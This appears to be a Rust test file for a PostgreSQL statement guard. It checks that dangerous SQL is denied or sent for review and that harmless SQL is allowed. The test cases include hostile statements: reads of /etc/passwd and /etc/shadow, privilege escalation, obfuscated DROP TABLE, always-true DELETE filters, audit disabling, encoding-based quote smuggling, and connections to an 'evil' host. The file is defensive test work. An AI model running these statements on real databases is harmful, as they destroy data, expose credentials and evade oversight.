        ("ALTER ROLE bob REPLICATION", Deny),
        ("ALTER GROUP pg_execute_server_program ADD USER bob", Deny),
        ("CREATE ROLE bob NOSUPERUSER", Review),
        ("ALTER ROLE bob WITH NOSUPERUSER NOREPLICATION", Review),
        (
            "CREATE FOREIGN TABLE passwd (line text) SERVER files OPTIONS (filename '/etc/passwd')",
            Deny,
        ),
        (
            "CREATE FOREIGN TABLE cmd (line text) SERVER files OPTIONS (program 'id')",
            Deny,
        ),
        (
            "ALTER FOREIGN TABLE passwd OPTIONS (SET filename '/etc/shadow')",
            Deny,
        ),
        ("ALTER SUBSCRIPTION sub CONNECTION 'host=evil'", Deny),
        (
            "CREATE FUNCTION f() RETURNS text LANGUAGE sql RETURN pg_read_file('/etc/passwd')",
            Deny,
        ),
        ("ALTER DOMAIN d DROP CONSTRAINT c CASCADE", Deny),
        ("ALTER TABLE users ENABLE REPLICA TRIGGER audit_trg", Deny),
        ("GRANT EXECUTE ON FUNCTION pg_read_file(text) TO bob", Deny),
        // Literal dynamic SQL built with more string functions.
        (
            "DO $$BEGIN EXECUTE array_to_string(ARRAY['DROP', 'TABLE', 'users'], ' '); END$$",
            Deny,
        ),
        (
            "DO $$BEGIN EXECUTE substr('xDROP TABLE users', 2); END$$",
            Deny,
        ),
        (
            "DO $$BEGIN EXECUTE translate('XROP TABLE users', 'X', 'D'); END$$",
            Deny,
        ),
        (
            "DO $$BEGIN EXECUTE overlay('XROP TABLE users' placing 'D' from 1 for 1); END$$",
            Deny,
        ),
        // Whole-table exports.
        ("SELECT u FROM users u", Review),
        ("SELECT row(u.*) FROM users u", Review),
        ("SELECT * FROM users GROUP BY id", Review),
        ("SELECT json_agg(u) FROM users u LIMIT 1", Review),
        ("SELECT (SELECT json_agg(u) FROM users u)", Review),
        ("SELECT array(SELECT u FROM users u)", Review),
        ("SELECT table_to_xml('users', true, false, '')", Review),
        (
            "SELECT query_to_xml('SELECT * FROM users', true, false, '')",
            Review,
        ),
        ("DECLARE c CURSOR FOR SELECT * FROM users", Review),
        ("SELECT * FROM users TABLESAMPLE BERNOULLI (100)", Review),
        ("SELECT * FROM users, LATERAL (SELECT 1 LIMIT 1) l", Review),
        // False positives that must stay allowed.
        ("EXPLAIN (ANALYZE false) DELETE FROM users", Allow),
        (
            "EXPLAIN (ANALYZE off, COSTS off) UPDATE users SET x = 1",
            Allow,
        ),
        ("SET TRANSACTION ISOLATION LEVEL READ COMMITTED", Allow),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
            Allow,
        ),
        ("RESET ROLE", Allow),
        ("SET ROLE NONE", Allow),
        (
            "PREPARE s(int) AS SELECT * FROM users WHERE id = $1; EXECUTE s(1)",
            Allow,
        ),
        ("SELECT json_agg(x) FROM generate_series(1, 3) x", Allow),
        (
            "SELECT jsonb_agg(x) FROM (SELECT id FROM users WHERE id < 10) x",
            Allow,
        ),
        (
            "WITH a AS (SELECT id FROM users WHERE id < 5), b AS (SELECT * FROM a) SELECT * FROM b",
            Allow,
        ),
        ("COPY (SELECT 1) TO STDOUT", Allow),
        ("COPY (SELECT * FROM users WHERE id = 1) TO STDOUT", Allow),
        (
            "SELECT u.*, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE u.id = 7",
            Allow,
        ),
    ]);
}

/// Cases a second adversarial review found (tools' real traffic and new evasions).
#[test]
fn second_adversarial_review_regressions() {
    check(&[
        // Parameters bound inside the same text count as possibly true.
        (
            "DO $$BEGIN EXECUTE 'DELETE FROM orders WHERE status = $1 OR $2' USING 'x', true; END$$",
            Deny,
        ),
        (
            "PREPARE d(bool) AS DELETE FROM orders WHERE status = 'x' OR $1; EXECUTE d(true)",
            Deny,
        ),
        // Always-true filters.
        (
            "DELETE FROM users WHERE NOT (id IS NULL AND id IS NOT NULL)",
            Deny,
        ),
        ("DELETE FROM users WHERE NOT (id = 1 AND id <> 1)", Deny),
        (
            "DELETE FROM users WHERE (SELECT count(*) FROM users) >= 0",
            Deny,
        ),
        (
            "DELETE FROM users WHERE (SELECT true FROM users LIMIT 1)",
            Deny,
        ),
        ("DELETE FROM users WHERE id = id + 0", Deny),
        ("DELETE FROM users WHERE id * 1 = id", Deny),
        ("UPDATE users SET pw = NULL WHERE id - id = 0", Deny),
        (
            "DELETE FROM users WHERE interval '1 day' > interval '1 hour'",
            Deny,
        ),
        ("DELETE FROM users WHERE id = COALESCE(NULL, id)", Deny),
        (
            "DELETE FROM users WHERE id = COALESCE(id, 0) OR id IS NULL",
            Deny,
        ),
        ("DELETE FROM users WHERE GREATEST(id, id) = id", Deny),
        ("DELETE FROM users WHERE id = id COLLATE \"C\"", Deny),
        ("DELETE FROM users WHERE (id IS NULL) IS NOT NULL", Deny),
        (
            "DELETE FROM users WHERE (id = 1) IS NOT UNKNOWN OR id IS NULL",
            Deny,
        ),
        (
            "UPDATE users SET pw = NULL WHERE (id > 1) IS NOT NULL OR id IS NULL",
            Deny,
        ),
        (
            "DELETE FROM users WHERE id IS DISTINCT FROM NULL OR id IS NULL",
            Deny,
        ),
        (
            "DELETE FROM users WHERE (id = 5) IS NOT TRUE OR id = 5",
            Deny,
        ),
        // Dangerous functions inside DDL run now or later.
        (
            "CREATE POLICY p ON users USING (pg_read_file('/etc/passwd') IS NOT NULL)",
            Deny,
        ),
        (
            "CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW WHEN (pg_read_file('/etc/passwd') IS NOT NULL) EXECUTE FUNCTION f()",
            Deny,
        ),
        (
            "ALTER DOMAIN d ADD CONSTRAINT c CHECK (pg_read_file('/etc/passwd') IS NOT NULL)",
            Deny,
        ),
        (
            "CREATE RULE r AS ON INSERT TO t WHERE pg_read_file('/etc/passwd') IS NOT NULL DO ALSO NOTIFY x",
            Deny,
        ),
        (
            "CREATE FUNCTION f(p text DEFAULT pg_read_file('/etc/passwd')) RETURNS text LANGUAGE sql AS 'SELECT p'",
            Deny,
        ),
        (
            "CREATE INDEX ON users ((pg_read_file('/etc/passwd')))",
            Deny,
        ),
        (
            "CREATE TABLE t (a text) PARTITION BY RANGE ((pg_read_file('/etc/passwd')))",
            Deny,
        ),
        (
            "CREATE TABLE t (x text DEFAULT set_config('session_replication_role','replica',false))",
            Deny,
        ),
        (
            "CREATE INDEX ON t ((set_config('session_replication_role', 'replica', false)))",
            Deny,
        ),
        // Restoring settings, tools' session setup and driver placeholders stay allowed.
        ("SET session_replication_role = origin", Allow),
        ("RESET session_replication_role", Allow),
        ("SET session_replication_role = DEFAULT", Allow),
        (
            "SELECT set_config('session_replication_role', 'origin', false)",
            Allow,
        ),
        ("SELECT set_config('app.tenant_id', '42', true)", Allow),
        ("SET LOCAL app.tenant_id TO '42'", Allow),
        ("SET pgaudit.log = 'none'", Deny),
        ("SET default_tablespace = ''", Allow),
        (
            "select u1_0.id,u1_0.email,u1_0.name from users u1_0 where u1_0.id=?",
            Allow,
        ),
        (
            "update users set email=?,name=?,version=? where id=? and version=?",
            Allow,
        ),
        (
            "SELECT users.id AS users_id FROM users WHERE users.id = %(pk_1)s",
            Allow,
        ),
        ("SELECT id, name FROM users WHERE id = :id", Allow),
        ("DELETE FROM users WHERE ?", Deny),
        (
            "SELECT time_bucket('5 minutes', ts) AS bucket, max(cpu) FROM metrics WHERE ts > now() - interval '6 hours' GROUP BY bucket",
            Allow,
        ),
        (
            "SELECT id, cosine_distance(embedding, '[1,2,3]') FROM items WHERE id < 100",
            Allow,
        ),
        ("SELECT lo_from_bytea(0, 'abc')", Allow),
        ("SELECT pg_cancel_backend(12345)", Review),
        ("SELECT pg_stat_statements_reset()", Review),
        ("CREATE EXTENSION IF NOT EXISTS postgres_fdw", Review),
    ]);
}

/// Cases a third adversarial review found (DBA work, constant sources, summaries).
#[test]
fn third_adversarial_review_regressions() {
    check(&[
        // Filters that never look at the target keep every row or none.
        (
            "DELETE FROM orders USING (VALUES (1)) v(x) WHERE v.x = 1",
            Deny,
        ),
        (
            "UPDATE orders SET total = 0 FROM (VALUES (1)) v(n) WHERE v.n = 1",
            Deny,
        ),
        ("DELETE FROM orders USING customers c WHERE c.id = 1", Deny),
        (
            "MERGE INTO orders USING (VALUES (1)) v(x) ON v.x = 1 WHEN MATCHED THEN DELETE",
            Deny,
        ),
        (
            "DELETE FROM orders USING customers c WHERE orders.customer_id = c.id AND c.email = 'x'",
            Allow,
        ),
        // Bounds and quantifiers over the same table.
        (
            "DELETE FROM orders WHERE id >= (SELECT min(id) FROM orders)",
            Deny,
        ),
        (
            "DELETE FROM orders WHERE id <= (SELECT max(id) FROM public.orders)",
            Deny,
        ),
        (
            "DELETE FROM orders WHERE id BETWEEN (SELECT min(id) FROM orders) AND (SELECT max(id) FROM orders)",
            Deny,
        ),
        (
            "DELETE FROM orders WHERE id >= (SELECT min(id) FROM orders WHERE status = 'old')",
            Allow,
        ),
        (
            "DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT ALL)",
            Deny,
        ),
        (
            "DELETE FROM orders WHERE id IN (SELECT id FROM orders GROUP BY id)",
            Deny,
        ),
        (
            "DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT 1000)",
            Allow,
        ),
        (
            "DELETE FROM orders WHERE id = ANY(ARRAY(SELECT id FROM orders))",
            Deny,
        ),
        ("DELETE FROM orders o WHERE o.id = (SELECT o.id)", Deny),
        ("DELETE FROM customers WHERE (id = id) = true", Deny),
        (
            "DELETE FROM customers WHERE CASE WHEN id = id THEN true END",
            Deny,
        ),
        ("DELETE FROM customers WHERE COALESCE(id = id, true)", Deny),
        ("DELETE FROM orders WHERE id <> ALL ('{}'::int[])", Deny),
        ("DELETE FROM customers WHERE NOT (id = ANY('{}'))", Deny),
        (
            "UPDATE orders SET total = 0 WHERE status IS NULL OR status IS NOT NULL AND true",
            Deny,
        ),
        (
            "DO $$BEGIN EXECUTE convert_from('\\x5452554e43415445206f7264657273'::bytea, 'UTF8'); END$$",
            Deny,
        ),
        // Summaries are not exports.
        (
            "COPY (SELECT status, count(*) FROM orders GROUP BY status) TO STDOUT WITH CSV",
            Allow,
        ),
        ("COPY (SELECT count(*) FROM orders) TO STDOUT", Allow),
        ("SELECT array_agg(DISTINCT status) FROM orders", Allow),
        ("SELECT ARRAY(SELECT DISTINCT status FROM orders)", Allow),
        (
            "SELECT json_agg(s) FROM (SELECT status, count(*) AS n FROM orders GROUP BY status) s",
            Allow,
        ),
        (
            "WITH c AS (SELECT count(*) FROM orders) SELECT * FROM c",
            Allow,
        ),
        (
            "SELECT * FROM (SELECT DISTINCT status FROM orders) s",
            Allow,
        ),
        ("SELECT json_agg(o) FROM orders o", Review),
        ("COPY orders TO STDOUT", Review),
        // Foreign-server housekeeping and harmless settings.
        (
            "ALTER SERVER remote_srv OPTIONS (DROP use_remote_estimate)",
            Review,
        ),
        (
            "ALTER SERVER remote_srv OPTIONS (SET host 'evil.example')",
            Deny,
        ),
        ("SET temp_file_limit = '10GB'", Allow),
    ]);
}

/// Parts of the parse tree that once went unread or unresolved (each denied or reviewed case
/// here was allowed by an earlier build): ORDER BY inside sub-selects, a set operation's own
/// LIMIT and OFFSET, window frame offsets, SQL passed as text inside XML and JSON
/// constructors, `set_config` there, SQL/JSON aggregates of whole tables, three-part catalog
/// names, MERGE … RETURNING, a CTE that stands for the target, and INTERSECT.
#[test]
fn every_clause_is_read() {
    check(&[
        (
            "SELECT * FROM (SELECT 1 ORDER BY pg_read_file('/etc/passwd')) s",
            Deny,
        ),
        (
            "SELECT 1 WHERE 1 IN (SELECT 1 ORDER BY length(pg_read_file('x')))",
            Deny,
        ),
        (
            "SELECT 1 UNION SELECT 2 OFFSET length(pg_read_file('/etc/passwd'))",
            Deny,
        ),
        (
            "SELECT 1 UNION SELECT 2 LIMIT length(pg_read_file('/etc/passwd'))",
            Deny,
        ),
        (
            "SELECT sum(x) OVER (ORDER BY x ROWS BETWEEN length(pg_read_file('x')) PRECEDING AND CURRENT ROW) FROM t WHERE id = 1",
            Deny,
        ),
        (
            "SELECT sum(x) OVER w FROM t WHERE id = 1 WINDOW w AS (ORDER BY x RANGE BETWEEN CURRENT ROW AND length(pg_read_file('x')) FOLLOWING)",
            Deny,
        ),
        (
            "SELECT xmlelement(name x, query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, true, ''))",
            Deny,
        ),
        (
            "SELECT JSON_OBJECT('k' : query_to_xml('DROP TABLE users', true, true, ''))",
            Deny,
        ),
        (
            "SELECT JSON_OBJECT('k' : set_config('log_statement', 'none', false))",
            Deny,
        ),
        (
            "UPDATE test.pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'bob'",
            Deny,
        ),
        (
            "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DO NOTHING RETURNING pg_read_file('/etc/passwd')",
            Deny,
        ),
        (
            "WITH s AS (SELECT id FROM t) DELETE FROM t WHERE id IN (SELECT id FROM s)",
            Deny,
        ),
        (
            "WITH s AS (SELECT id FROM t) UPDATE t SET a = 1 WHERE id IN (SELECT id FROM s)",
            Deny,
        ),
        (
            "WITH s AS (SELECT * FROM t) DELETE FROM t USING s WHERE t.id = s.id",
            Deny,
        ),
        (
            "WITH s AS (SELECT * FROM t) MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            Deny,
        ),
        (
            "DELETE FROM t WHERE id IN (SELECT id FROM t INTERSECT SELECT id FROM t)",
            Deny,
        ),
        (
            "SELECT xmlelement(name x, query_to_xml('SELECT * FROM users', true, true, ''))",
            Review,
        ),
        (
            "SELECT xmlelement(name x, query_to_xml(q, true, true, '')) FROM cfg WHERE id = 1",
            Review,
        ),
        ("SELECT JSON_ARRAYAGG(row_to_json(t)) FROM t", Review),
        ("SELECT JSON_OBJECTAGG(id : name) FROM t", Review),
        ("SELECT JSON_ARRAYAGG(id) FROM t WHERE id = 1", Allow),
        ("SELECT xmlelement(name x, 'hello')", Allow),
        ("SELECT x FROM t WHERE id = 1 ORDER BY x", Allow),
        (
            "SELECT sum(x) OVER (ORDER BY x ROWS BETWEEN 2 PRECEDING AND CURRENT ROW) FROM t WHERE id = 1",
            Allow,
        ),
        (
            "WITH s AS (SELECT id FROM bans) DELETE FROM t WHERE id IN (SELECT id FROM s)",
            Allow,
        ),
        (
            "WITH s AS (SELECT id FROM t WHERE id < 5) DELETE FROM t WHERE id IN (SELECT id FROM s)",
            Allow,
        ),
        (
            "DELETE FROM t WHERE id IN (SELECT id FROM t INTERSECT SELECT id FROM bans)",
            Allow,
        ),
        (
            "UPDATE pg_catalog_copy.pg_authid SET a = 1 WHERE id = 1",
            Allow,
        ),
    ]);
}

/// standard_conforming_strings may only stay on (in any spelling PostgreSQL's parse_bool reads
/// as true) and client_encoding may only name an encoding whose multi-byte characters cannot
/// hide a quote or backslash, after PostgreSQL's name normalisation. Each Deny case but three
/// was allowed or only reviewed by the earlier exact-value deny-list.
#[test]
fn parser_settings_are_an_allow_list() {
    check(&[
        ("SET standard_conforming_strings = 'of'", Deny),
        ("SET standard_conforming_strings = 'OfF'", Deny),
        ("SET standard_conforming_strings = 'fals'", Deny),
        ("SET standard_conforming_strings = 'n'", Deny),
        ("SET standard_conforming_strings = 'No'", Deny),
        ("SET standard_conforming_strings = '0'", Deny),
        ("SET standard_conforming_strings = 0", Deny),
        ("SET standard_conforming_strings = 'F'", Deny),
        ("SET standard_conforming_strings = 'maybe'", Deny),
        ("SET SESSION standard_conforming_strings TO 'of'", Deny),
        ("SET LOCAL standard_conforming_strings = 'fa'", Deny),
        (
            "SELECT set_config('standard_conforming_strings', 'of', false)",
            Deny,
        ),
        (
            "SELECT set_config('standard_conforming_strings', current_setting('app.x'), false)",
            Deny,
        ),
        (
            "ALTER ROLE app SET standard_conforming_strings = 'of'",
            Deny,
        ),
        (
            "SET standard_conforming_strings = 'of'; SELECT 'a\\' , $$' ; DROP TABLE users; -- $$",
            Deny,
        ),
        ("SET client_encoding = 'mskanji'", Deny),
        ("SET client_encoding = 'Shift_JIS'", Deny),
        ("SET client_encoding = 'WIN932'", Deny),
        ("SET client_encoding = 'win950'", Deny),
        ("SET client_encoding = 's-j-i-s'", Deny),
        ("SET client_encoding = 'Windows_936'", Deny),
        ("SET client_encoding = 'Big-5'", Deny),
        ("SET client_encoding = 'gb_18030'", Deny),
        ("SET client_encoding = 'Johab'", Deny),
        ("SET client_encoding = 'win949'", Deny),
        ("SET client_encoding = 'Shift-JIS-2004'", Deny),
        ("SET client_encoding = 'cp932'", Deny),
        ("SET client_encoding = 'UTF8', 'SJIS'", Deny),
        ("SET SESSION client_encoding TO 'MS_Kanji'", Deny),
        ("SET LOCAL client_encoding = 'sjis '", Deny),
        ("SET NAMES 'Shift_JIS'", Deny),
        (
            "SELECT set_config('client_encoding', 'mskanji', false)",
            Deny,
        ),
        ("SELECT set_config('CLIENT_ENCODING', 'win950', true)", Deny),
        (
            "SELECT set_config('client_encoding', current_setting('app.enc'), false)",
            Deny,
        ),
        ("ALTER ROLE app SET client_encoding TO 'Shift_JIS'", Deny),
        ("ALTER DATABASE app SET client_encoding = 'WIN932'", Deny),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET client_encoding = 'mskanji' AS 'SELECT 1'",
            Deny,
        ),
        (
            "DO $$ BEGIN PERFORM set_config('client_encoding', 'big5', false); END $$",
            Deny,
        ),
        ("SET client_encoding = 'UTF8'", Allow),
        ("SET client_encoding = 'utf-8'", Allow),
        ("SET client_encoding = 'LATIN1'", Allow),
        ("SET client_encoding = 'euc_jp'", Allow),
        ("SET client_encoding TO 'ISO-8859-15'", Allow),
        ("SET LOCAL client_encoding = 'SQL_ASCII'", Allow),
        ("SET NAMES 'UTF8'", Allow),
        ("SET client_encoding TO DEFAULT", Allow),
        ("RESET client_encoding", Allow),
        ("SELECT set_config('client_encoding', 'UTF8', false)", Allow),
        ("SET standard_conforming_strings = on", Allow),
        ("SET standard_conforming_strings = 'true'", Allow),
        ("SET standard_conforming_strings = 'y'", Allow),
        ("SET standard_conforming_strings = 'tru'", Allow),
        ("SET standard_conforming_strings = 1", Allow),
        ("SET standard_conforming_strings TO DEFAULT", Allow),
        ("RESET standard_conforming_strings", Allow),
        (
            "SELECT set_config('standard_conforming_strings', 'ON', false)",
            Allow,
        ),
    ]);
}

#[test]
fn plpgsql_variables_written_other_than_by_assignment() {
    check(&[
        // Written by INTO, FOR, FOREACH, FETCH, GET DIAGNOSTICS, CALL: the value is not the
        // default, and airlock cannot know it. `EXECUTE q` is dynamic SQL it cannot see.
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN SELECT 'DROP TABLE users' INTO q; EXECUTE q; END$$",
            Review,
        ),
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN EXECUTE 'SELECT ''DROP TABLE users''' INTO q; EXECUTE q; END$$",
            Review,
        ),
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN FOR q IN SELECT 'DROP TABLE users' LOOP EXECUTE q; END LOOP; END$$",
            Review,
        ),
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN FOR q IN EXECUTE 'SELECT ''DROP TABLE users''' LOOP EXECUTE q; END LOOP; END$$",
            Review,
        ),
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN FOREACH q IN ARRAY ARRAY['DROP TABLE users'] LOOP EXECUTE q; END LOOP; END$$",
            Review,
        ),
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN UPDATE t SET a = a WHERE id = 1 RETURNING 'DROP TABLE users' INTO q; EXECUTE q; END$$",
            Review,
        ),
        (
            "DO $$DECLARE q text:='SELECT 1'; c refcursor; BEGIN OPEN c FOR SELECT 'DROP TABLE users'; FETCH c INTO q; EXECUTE q; END$$",
            Review,
        ),
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN GET DIAGNOSTICS q = PG_CONTEXT; EXECUTE q; END$$",
            Review,
        ),
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN RAISE EXCEPTION 'DROP TABLE users'; EXCEPTION WHEN others THEN GET STACKED DIAGNOSTICS q = MESSAGE_TEXT; EXECUTE q; END$$",
            Review,
        ),
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN CALL get_sql(q); EXECUTE q; END$$",
            Review,
        ),
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN SELECT 'SELECT pg_read_file(''/etc/passwd'')' INTO q; EXECUTE q; END$$",
            Review,
        ),
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN SELECT 'ALTER SYSTEM SET fsync = off' INTO q; EXECUTE q; END$$",
            Review,
        ),
        // With `#variable_conflict use_column`, `q` is the column.
        (
            "DO $$DECLARE q text:='SELECT 1'; BEGIN EXECUTE q FROM (SELECT 'DROP TABLE users' AS q) s; END$$",
            Review,
        ),
        // `name` keeps 63 bytes: what runs is `DELETE FROM users` and spaces.
        (
            "DO $$DECLARE q name := 'DELETE FROM users' || repeat(' ', 60) || 'WHERE id = 1'; BEGIN EXECUTE q; END$$",
            Review,
        ),
        // Carried around a loop: `b` holds the DROP from the third iteration.
        (
            "DO $$DECLARE a text := 'SELECT 1'; b text := 'SELECT 1'; BEGIN FOR i IN 1..3 LOOP EXECUTE b; b := a; a := 'DROP TABLE users'; END LOOP; END$$",
            Deny,
        ),
        (
            "DO $$DECLARE a text := 'SELECT 1'; b text := 'SELECT 1'; BEGIN FOR i IN 1..3 LOOP EXECUTE b; b := a; a := 'SELECT pg_read_file(''/etc/passwd'')'; END LOOP; END$$",
            Deny,
        ),
        (
            "DO $$DECLARE a text := 'SELECT 1'; b text := 'SELECT 1'; BEGIN FOR i IN 1..3 LOOP EXECUTE b; b := a; a := 'ALTER SYSTEM SET fsync = off'; END LOOP; END$$",
            Deny,
        ),
        // Either branch, a NULL before the first assignment, a default run in a loop.
        (
            "DO $$DECLARE a text := 'SELECT 1'; b text; BEGIN IF random() > 0.5 THEN a := 'DROP TABLE users'; ELSE a := 'SELECT 2'; END IF; b := a; EXECUTE b; END$$",
            Deny,
        ),
        (
            "DO $$DECLARE q text; BEGIN EXECUTE coalesce(q, 'DROP TABLE users'); q := 'SELECT 1'; END$$",
            Deny,
        ),
        (
            "DO $$DECLARE a text := 'SELECT 1'; BEGIN FOR i IN 1..2 LOOP DECLARE b text := a; BEGIN EXECUTE b; END; a := 'DROP TABLE users'; END LOOP; END$$",
            Deny,
        ),
        (
            "DO $$DECLARE q text := 'SELECT 1'; BEGIN q := 'DROP ' || 'TABLE t'; EXECUTE q; END$$",
            Deny,
        ),
        // What airlock can follow stays allowed.
        (
            "DO $$DECLARE n int; BEGIN SELECT count(*) INTO n FROM t WHERE id = 1; END$$",
            Allow,
        ),
        (
            "DO $$DECLARE q text := 'SELECT 1'; BEGIN EXECUTE q; END$$",
            Allow,
        ),
        (
            "DO $$DECLARE n int; q text := 'SELECT 1'; BEGIN SELECT count(*) INTO n FROM t WHERE id = 1; EXECUTE q; END$$",
            Allow,
        ),
        (
            "DO $$DECLARE q text := 'SELECT 1'; BEGIN FOR i IN 1..3 LOOP EXECUTE q; q := 'SELECT 2'; END LOOP; END$$",
            Allow,
        ),
        (
            "DO $$DECLARE q text; BEGIN q := 'SELECT ' || '1'; EXECUTE q; END$$",
            Allow,
        ),
    ]);
}
